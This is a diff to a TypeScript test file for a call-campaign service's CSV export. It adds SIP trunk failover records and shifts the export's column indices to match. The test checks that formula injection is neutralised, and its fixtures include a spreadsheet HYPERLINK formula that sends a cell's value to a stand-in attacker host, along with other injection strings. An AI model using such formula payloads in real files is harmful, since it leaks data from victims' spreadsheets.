@@ -31,6 +31,7 @@ interface CallView {
   dtmf: { digit: string }[];
   recordingUrl: string | null;
   machineDetection: { verdict: string; cause: string; decisionMs: number } | null;
+  trunkAttempts: { trunkId: string; sipCode: number | null }[];
   variables: Record<string, string>;
 }
 
@@ -50,6 +51,7 @@ const FIXED = [
   'amd_verdict',
   'amd_cause',
   'amd_decision_ms',
+  'trunks',
   'recording_url',
 ];
 
@@ -163,6 +165,14 @@ async function seedCampaign() {
     answered,
     JSON.stringify({ verdict: 'machine', cause: 'beep', decisionMs: 2480, treatedAs: 'machine', action: 'message' }),
   ]);
+  // Failed over: the first trunk gave no answer, the second answered.
+  await db.query('UPDATE call_record SET trunk_attempts = $2 WHERE id = $1', [
+    answered,
+    JSON.stringify([
+      { trunkId: randomUUID(), sipCode: null, reason: 'no response from the gateway before the ring timeout' },
+      { trunkId: randomUUID(), sipCode: 200, reason: 'OK' },
+    ]),
+  ]);
   // Bob calls the same number, with variables of his own.
   const bobsCampaign = await insertBareCampaign(db, bob.id);
   const [bc] = await insertContacts(db, bobsCampaign, [
@@ -201,13 +211,15 @@ test('the journal export holds what the journal API shows, hostile text inert an
     ]);
     const amd = v.machineDetection;
     expect(record.slice(12, 15)).toEqual(amd ? [amd.verdict, amd.cause, String(amd.decisionMs)] : ['', '', '']);
-    if (v.recordingUrl === null) expect(record[15]).toBe('');
-    else expect(record[15]).toMatch(new RegExp(`^https?://[^/]+${v.recordingUrl}$`));
-    expect(record.slice(16).map(unguard)).toEqual(names.map((n) => v.variables[n] ?? ''));
+    expect(record[15]).toBe(v.trunkAttempts.map((a) => `${a.trunkId}:${a.sipCode ?? '-'}`).join(';'));
+    if (v.id === seed.answered) expect(record[15]).toMatch(/^[0-9a-f-]{36}:-;[0-9a-f-]{36}:200$/);
+    if (v.recordingUrl === null) expect(record[16]).toBe('');
+    else expect(record[16]).toMatch(new RegExp(`^https?://[^/]+${v.recordingUrl}$`));
+    expect(record.slice(17).map(unguard)).toEqual(names.map((n) => v.variables[n] ?? ''));
   });
   // The cells exactly: a leading ' where a spreadsheet would see a formula, nowhere else.
   const answered = records[0];
-  expect(answered.slice(16)).toEqual([
+  expect(answered.slice(17)).toEqual([
     `'=HYPERLINK("https://evil.example/?"&A1,"Fix")`,
     `'-1+2`,
     'Zoë 東京 🎉',
@@ -217,14 +229,14 @@ test('the journal export holds what the journal API shows, hostile text inert an
     `'\t=1+1`,
   ]);
   expect(records[2][6]).toBe(`'=Busy, "here"\r\n`);
-  expect(records[1].slice(16)).toEqual(['', '', 'Paris', "'@x", '', '', '']);
+  expect(records[1].slice(17)).toEqual(['', '', 'Paris', "'@x", '', '', '']);
 });
 
 test('campaign results: one record per contact in file order with its final outcome, or per attempt', async () => {
   const seed = await seedCampaign();
   const { header, records } = await download(alice.token, `/api/v1/campaigns/${seed.campaignId}/results`);
-  expect(header.slice(0, 18)).toEqual([...FIXED, 'contact_line', 'contact_state']);
-  const pick = (r: string[]) => [r[0], r[2], r[3], r[4], r[16], r[17], unguard(r[header.indexOf('city')])];
+  expect(header.slice(0, 19)).toEqual([...FIXED, 'contact_line', 'contact_state']);
+  const pick = (r: string[]) => [r[0], r[2], r[3], r[4], r[17], r[18], unguard(r[header.indexOf('city')])];
   expect(records.map(pick)).toEqual([
     [seed.answered, seed.phones[0], '2', 'answered', '2', 'done', 'Zoë 東京 🎉'],
     [seed.noAnswer, seed.phones[1], '1', 'no_answer', '3', 'done', 'Paris'],
